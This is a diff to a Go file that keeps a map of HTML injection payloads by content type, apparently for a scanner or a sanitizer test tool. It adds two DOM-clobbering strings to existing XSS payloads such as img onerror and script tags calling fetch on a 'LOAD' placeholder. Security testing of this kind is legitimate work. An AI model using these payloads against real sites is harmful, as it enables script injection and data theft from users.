@@ -89,6 +89,8 @@ var payloads = map[string][]string{
 		`--><!-- --!><img src=x onerror='fetch("LOAD")'>`,
 		`<table><thead><tr><th>a</th></tr></thead><tbody><tr><td><img src="LOAD" onerror='fetch("LOAD")'>1</td></tr></tbody></table>`,
 		`<table><thead><tr><th><script>fetch("LOAD")</script>a</th></tr></thead><tbody><tr><td>&lt;img src=x onerror=fetch("LOAD")&gt;</td></tr></tbody></table>`,
+		`<img name="querySelectorAll"><img name="innerHTML"><img src="LOAD">`,
+		`<form id="content"><input name="innerHTML"><input name="remove"><img src="LOAD"></form>`,
 		`<frameset><frame src="LOAD"></frameset>`,
 	},
 	"image/svg+xml": {
